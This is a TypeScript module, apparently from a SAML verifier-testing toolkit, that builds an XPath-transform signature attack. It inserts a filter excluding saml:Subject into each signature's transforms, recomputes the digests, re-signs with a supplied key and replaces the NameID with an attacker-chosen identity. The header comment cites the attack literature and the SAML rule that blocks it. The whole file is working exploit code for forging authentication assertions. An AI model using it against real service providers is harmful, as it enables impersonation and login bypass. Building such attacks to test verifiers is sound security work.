/*
 * An XPath filter transform that narrows what is signed (xmldsig-core §6.6.3; W3C "XML Signature Best
 * Practices": "what is signed is not what is seen"; the transform attacks of McIntosh & Austel, "XML Signature
 * Element Wrapping Attacks", 2005): each signature's Reference gets the XPath filter
 * `not(ancestor-or-self::saml:Subject)` between enveloped-signature and exclusive C14N, its digest is computed
 * over the element WITHOUT its Subject, and it is re-signed with the genuine key; then the NameID is replaced by
 * the attacker's. A verifier that honours XPath transforms finds every signature valid while the identity it
 * reads was never signed. saml-core §5.4.4: only enveloped-signature and exclusive canonicalization belong here.
 */
import { NS } from '../namespaces.ts';
import { descendants, parseXml, serialize } from '../xml.ts';
import { replaceNameIds } from './evil-assertion.ts';
import { redigest, resign, signedElements, transformsOf } from './signed-info.ts';
import { insertTransform } from './xslt-transform.ts';

export const XPATH_TRANSFORM = 'http://www.w3.org/TR/1999/REC-xpath-19991116';
export const XPATH_EXCLUDING_SUBJECT = 'not(ancestor-or-self::saml:Subject)';

export function xpathTransform(xml: string, privateKeyPem: string, attackerNameId: string): string {
  const doc = parseXml(xml, 'signed Response');
  for (const target of signedElements(doc, 'xpathTransform')) {
    const transform = doc.createElementNS(NS.ds, 'ds:Transform');
    transform.setAttribute('Algorithm', XPATH_TRANSFORM);
    const xpath = doc.createElementNS(NS.ds, 'ds:XPath');
    xpath.setAttributeNS('http://www.w3.org/2000/xmlns/', 'xmlns:saml', NS.assertion);
    xpath.appendChild(doc.createTextNode(XPATH_EXCLUDING_SUBJECT));
    transform.appendChild(xpath);
    insertTransform(transformsOf(target.signature), transform);
    redigest(target, (copy) => {
      for (const subject of descendants(copy, NS.assertion, 'Subject')) subject.parentNode!.removeChild(subject);
    });
    resign(target.signature, privateKeyPem);
  }
  // Only the NameID: it sits in the Subject, which the transform left unsigned; the attributes are signed.
  replaceNameIds(doc.documentElement!, attackerNameId);
  return serialize(doc);
}
